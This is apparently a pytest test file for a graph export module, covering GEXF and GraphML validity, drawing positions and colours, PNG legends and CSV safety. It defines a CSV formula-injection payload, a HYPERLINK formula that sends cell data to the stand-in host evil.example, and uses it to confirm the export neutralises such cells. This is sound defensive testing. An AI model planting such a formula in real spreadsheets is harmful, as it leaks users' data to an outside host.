"""Exports as Gephi, yEd and a spreadsheet see them: valid GEXF 1.3 with names as labels,
the drawing's positions and colours, a PNG with title and legend, CSV that runs nothing."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import zipfile
from pathlib import Path

import networkx as nx
import pytest
from lxml import etree
from PIL import Image

from graph.render import html
from graph.render.export import (
    GEXF_NS,
    VIZ_NS,
    Drawing,
    drawing_of,
    export_bytes,
    records_csv,
)
from graph.render.picture import HEIGHT, WIDTH, captions_drawn

SCHEMAS = Path(__file__).parent / "fixtures" / "gexf-1.3"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def graph() -> nx.MultiDiGraph:
    g = nx.MultiDiGraph()
    g.add_node("country:ee", label="Country", name="Estonia", code="EE")
    g.add_node(
        "city:ee:tartu",
        label="City",
        name="Tartu",
        names=["Tartu", "Dorpat"],
        lat=58.38,
        sources=["source:a"],
    )
    g.add_node("city:ee:voru", label="City", name="Võru")
    g.add_node("practice:bikes", label="Practice", title="Bikes for all", summary=FORMULA)
    g.add_node("event:2024-05-01:forum", label="Event", title="Forum", date="2024-05-01")
    g.add_node("topic:mobility", label="Topic", name="mobility")
    g.add_node("source:a", label="Source", path="recaps/a.txt", synthetic=False)
    for u, rel, v in (
        ("city:ee:tartu", "IN", "country:ee"),
        ("city:ee:voru", "IN", "country:ee"),
        ("city:ee:tartu", "SHARED", "practice:bikes"),
        ("practice:bikes", "PRESENTED_AT", "event:2024-05-01:forum"),
        ("practice:bikes", "ABOUT", "topic:mobility"),
        ("event:2024-05-01:forum", "ABOUT", "topic:mobility"),
        ("event:2024-05-01:forum", "HELD_IN", "city:ee:tartu"),
        ("source:a", "DESCRIBES", "event:2024-05-01:forum"),
    ):
        g.add_edge(u, v, key=rel, type=rel, sources=["source:a"])
    return g


@pytest.fixture(scope="module")
def relax_ng() -> etree.RelaxNG:
    return etree.RelaxNG(etree.parse(str(SCHEMAS / "gexf.rng")))


@pytest.fixture(scope="module")
def xsd() -> etree.XMLSchema:
    return etree.XMLSchema(etree.parse(str(SCHEMAS / "gexf.xsd")))


def page_data(page: str) -> dict:
    """The JSON the page draws from."""
    match = re.search(r'<script id="cg-data" type="application/json">(.*?)</script>', page, re.S)
    assert match, "the page carries its data block"
    return json.loads(match.group(1))


def without_viz(document: etree._Element) -> etree._Element:
    bare = copy.deepcopy(document)
    for element in bare.iter(f"{{{VIZ_NS}}}*"):
        element.getparent().remove(element)
    return bare


def test_gexf_is_valid_gexf_1_3(relax_ng: etree.RelaxNG, xsd: etree.XMLSchema) -> None:
    document = etree.fromstring(export_bytes(graph(), "gexf"))
    assert relax_ng.validate(document), relax_ng.error_log
    assert xsd.validate(without_viz(document)), xsd.error_log
    # the schemas do catch what the old export wrote: the relation in the edge's ``type``
    edge = document.find(f".//{{{GEXF_NS}}}edge")
    edge.set("type", "SHARED")
    assert not relax_ng.validate(document)
    assert not xsd.validate(without_viz(document))


def test_gexf_round_trips_with_names_as_labels() -> None:
    g = graph()
    read = nx.read_gexf(io.BytesIO(export_bytes(g, "gexf")))
    assert set(read.nodes) == set(g.nodes)
    assert read.nodes["city:ee:voru"]["label"] == "Võru"
    assert read.nodes["practice:bikes"]["label"] == "Bikes for all"
    assert read.nodes["city:ee:tartu"]["kind"] == "City"
    assert read.nodes["city:ee:tartu"]["lat"] == pytest.approx(58.38)
    assert read.nodes["city:ee:tartu"]["names"] == "Tartu;Dorpat"
    assert read.nodes["source:a"]["synthetic"] is False
    relations = sorted(d["relation"] for *_, d in read.edges(data=True))
    assert relations == sorted(k for *_, k in g.edges(keys=True))


def test_gexf_and_graphml_carry_the_drawings_positions_and_colours() -> None:
    g = graph()
    drawing = Drawing(
        positions={n: (i * 10.0, -i * 10.0) for i, n in enumerate(sorted(g))},
        colours={n: "#123456" for n in g},
        sizes={n: 20.0 for n in g},
    )
    read = nx.read_gexf(io.BytesIO(export_bytes(g, "gexf", drawing=drawing)))
    for i, node in enumerate(sorted(g)):
        viz = read.nodes[node]["viz"]
        # Gephi's y axis points up, the screen's down
        assert viz["position"]["x"] == pytest.approx(i * 10.0)
        assert viz["position"]["y"] == pytest.approx(i * 10.0)
        assert (viz["color"]["r"], viz["color"]["g"], viz["color"]["b"]) == (0x12, 0x34, 0x56)
        assert viz["size"] == pytest.approx(20.0)
    graphml = nx.read_graphml(io.BytesIO(export_bytes(g, "graphml", drawing=drawing)))
    tartu = graphml.nodes["city:ee:tartu"]
    assert (tartu["label"], tartu["kind"]) == ("Tartu", "City")
    assert (tartu["r"], tartu["g"], tartu["b"], tartu["color"]) == (0x12, 0x34, 0x56, "#123456")
    assert tartu["x"] == pytest.approx(drawing.positions["city:ee:tartu"][0])
    assert {d["relation"] for *_, d in graphml.edges(data=True)} >= {"SHARED", "ABOUT"}


def test_default_drawing_is_the_network_views_drawing_and_kind_colours() -> None:
    g = graph()
    drawing = drawing_of(g)
    page = page_data(html.network_html(g))
    assert {n["id"]: (n["x"], n["y"]) for n in page["nodes"]} == dict(drawing.positions)
    assert drawing.colours["city:ee:tartu"] == html.LABEL_STYLE["City"][0]
    read = nx.read_gexf(io.BytesIO(export_bytes(g, "gexf")))
    x, _ = drawing.positions["practice:bikes"]
    assert read.nodes["practice:bikes"]["viz"]["position"]["x"] == pytest.approx(x, abs=0.01)


def hex_of(rgb: dict) -> str:
    return f"#{rgb['r']:02x}{rgb['g']:02x}{rgb['b']:02x}"


def crowded() -> nx.MultiDiGraph:
    """A tree of 300 nodes: the layout puts many leaves on their neighbour, so the page
    pushes them apart before drawing."""
    tree = nx.barabasi_albert_graph(300, 1, seed=2)
    g = nx.MultiDiGraph()
    for n in tree:
        g.add_node(f"city:xx:c{n}", label="City", name=f"City {n}")
    for u, v in tree.edges():
        g.add_edge(f"city:xx:c{u}", f"city:xx:c{v}", key="LINK", type="LINK")
    return g


def test_exports_carry_the_positions_as_drawn_after_shapes_are_pushed_apart() -> None:
    g = crowded()
    page = page_data(html.network_html(g))
    drawn = {n["id"]: (n["x"], n["y"], n["size"], n["color"]) for n in page["nodes"]}
    # the page's positions are not the layout's: overlapping shapes were moved
    spread = html.SPREAD * g.number_of_nodes() ** 0.5
    laid = html.layout(g)
    moved = [
        n
        for n in g
        if abs(drawn[n][0] - laid[n][0] * spread) + abs(drawn[n][1] - laid[n][1] * spread) > 5
    ]
    assert len(moved) > 20
    gexf = nx.read_gexf(io.BytesIO(export_bytes(g, "gexf")))
    graphml = nx.read_graphml(io.BytesIO(export_bytes(g, "graphml")))
    for node, (x, y, size, colour) in drawn.items():
        viz = gexf.nodes[node]["viz"]
        # the same picture: canvas units, with Gephi's y axis pointing up
        assert (viz["position"]["x"], -viz["position"]["y"]) == pytest.approx((x, y), abs=0.01)
        assert viz["size"] == pytest.approx(size)
        assert hex_of(viz["color"]) == colour
        assert (graphml.nodes[node]["x"], -graphml.nodes[node]["y"]) == pytest.approx(
            (x, y), abs=0.01
        )


def test_a_colour_grouping_reaches_the_page_the_exports_and_the_png_legend() -> None:
    g = graph()
    groups = {n: (0 if n.startswith("city:") else 1) for n in g}
    drawing = drawing_of(g, color_by=groups)
    page = page_data(html.network_html(g, color_by=groups))
    assert {n["id"]: n["color"] for n in page["nodes"]} == dict(drawing.colours)
    assert drawing.colours["city:ee:tartu"] == drawing.colours["city:ee:voru"]
    assert drawing.colours["city:ee:tartu"] != drawing.colours["practice:bikes"]
    gexf = nx.read_gexf(io.BytesIO(export_bytes(g, "gexf", drawing=drawing)))
    rgb = gexf.nodes["topic:mobility"]["viz"]["color"]
    assert hex_of(rgb) == drawing.colours["topic:mobility"]
    picture = Image.open(io.BytesIO(export_bytes(g, "png", drawing=drawing))).convert("RGB")
    legend_band = {c for _, c in colours(picture.crop((0, picture.height - 140, *picture.size)))}
    for colour in set(drawing.colours.values()):
        assert tuple(int(colour[i : i + 2], 16) for i in (1, 3, 5)) in legend_band, colour


def colours(image: Image.Image) -> list[tuple[int, tuple[int, ...]]]:
    """(count, colour) of every colour of a colour image."""
    found = image.getcolors(maxcolors=image.width * image.height) or []
    return [(count, colour) for count, colour in found if isinstance(colour, tuple)]


def test_png_is_twice_the_size_with_title_and_legend() -> None:
    g = graph()
    picture = Image.open(io.BytesIO(export_bytes(g, "png", title="citygraph: Estonia")))
    assert picture.size == (2 * WIDTH, 2 * HEIGHT)
    rgb = picture.convert("RGB")
    title_band = rgb.crop((0, 0, picture.width, 48 * 2))
    assert min(sum(c) for _, c in colours(title_band)) < 200  # dark text in the title band
    legend_band = {c for _, c in colours(rgb.crop((0, picture.height - 140, *picture.size)))}
    for kind in ("City", "Country", "Practice", "Event", "Topic", "Source"):
        colour = html.LABEL_STYLE[kind][0].lstrip("#")
        assert tuple(int(colour[i : i + 2], 16) for i in (0, 2, 4)) in legend_band, kind


def test_the_png_is_labelled_with_the_drawings_captions_masked_in_presenter_mode() -> None:
    g = graph()
    g.add_node("person:ada-lind", label="Person", name="Ada Lind")
    g.add_edge("person:ada-lind", "practice:bikes", key="PRESENTED", type="PRESENTED")
    plain = captions_drawn(export_bytes(g, "png", drawing=drawing_of(g)))
    assert "Ada Lind" in plain and "Tartu" in plain
    shown = captions_drawn(export_bytes(g, "png", drawing=drawing_of(g, presenter=True)))
    assert "Speaker" in shown and "Tartu" in shown
    assert not any("Ada" in text or "Lind" in text for text in shown)


def test_csv_cells_never_run_as_formulas() -> None:
    with zipfile.ZipFile(io.BytesIO(export_bytes(graph(), "csv"))) as zf:
        nodes = list(csv.DictReader(io.StringIO(zf.read("nodes.csv").decode())))
    practice = next(r for r in nodes if r["id"] == "practice:bikes")
    assert practice["summary"] == "'" + FORMULA
    assert (practice["label"], practice["kind"]) == ("Bikes for all", "Practice")
    rows = list(
        csv.reader(
            io.StringIO(
                records_csv(
                    [{"city": "@SUM(1+1)", "note": "\tx", "score": -1.5, "minus": "-1"}]
                ).decode()
            )
        )
    )
    assert rows == [["city", "note", "score", "minus"], ["'@SUM(1+1)", "'\tx", "-1.5", "'-1"]]


def control_graph() -> nx.MultiDiGraph:
    """A graph an old file could hold: control characters in ids, names and a relation."""
    g = nx.MultiDiGraph()
    g.add_node("city:xx:a\x00b", label="City", name="A\x07B\x1b[31m")
    g.add_node("city:xx:a\x01b", label="City", name="Other", names=["x\x0cy"])
    g.add_node("practice:p\ufffe", label="Practice", title='P\x0b <b a="1">&amp;</b>\n2')
    g.add_edge("city:xx:a\x00b", "practice:p\ufffe", key="SHARED", type="SHARED", note="n\x02")
    g.add_edge("city:xx:a\x01b", "practice:p\ufffe", key="SHARED", type="SHARED")
    return g


def test_exports_stay_valid_whatever_the_ids_hold(relax_ng: etree.RelaxNG) -> None:
    g = control_graph()
    document = etree.fromstring(export_bytes(g, "gexf"))
    assert relax_ng.validate(document), relax_ng.error_log
    gexf = nx.read_gexf(io.BytesIO(export_bytes(g, "gexf")))
    graphml = nx.read_graphml(io.BytesIO(export_bytes(g, "graphml")))
    for read in (gexf, graphml):
        # two ids that differ only by a control character stay two nodes, visibly escaped
        assert set(read.nodes) == {"city:xx:a\\x00b", "city:xx:a\\x01b", "practice:p\\ufffe"}
        assert read.number_of_edges() == 2
        assert read.nodes["city:xx:a\\x00b"]["label"] == "A\\x07B\\x1b[31m"
        # markup and a line break in a text come back as they were
        assert read.nodes["practice:p\\ufffe"]["label"] == 'P\\x0b <b a="1">&amp;</b>\n2'
    with zipfile.ZipFile(io.BytesIO(export_bytes(g, "csv"))) as zf:
        texts = {name: zf.read(name).decode() for name in zf.namelist()}
    for text in texts.values():
        assert not any(ord(c) < 32 and c not in "\r\n" for c in text), text
    nodes = list(csv.DictReader(io.StringIO(texts["nodes.csv"])))
    # U+FFFE is no control character: a CSV carries it, XML cannot
    assert {r["id"] for r in nodes} == {"city:xx:a\\x00b", "city:xx:a\\x01b", "practice:p\ufffe"}


def test_export_to_writes_each_file_whole(tmp_path: Path) -> None:
    from graph.render.export import export_to

    g = graph()
    written = export_to(g, "csv", tmp_path / "tables")
    assert [p.name for p in written] == ["nodes.csv", "relationships.csv"]
    with (tmp_path / "tables" / "relationships.csv").open(newline="") as f:
        assert len(list(csv.DictReader(f))) == g.number_of_edges()
    gexf = export_to(g, "gexf", tmp_path / "out.gexf")[0]
    assert set(nx.read_gexf(gexf).nodes) == set(g.nodes)
    assert not list(tmp_path.glob(".*.tmp"))
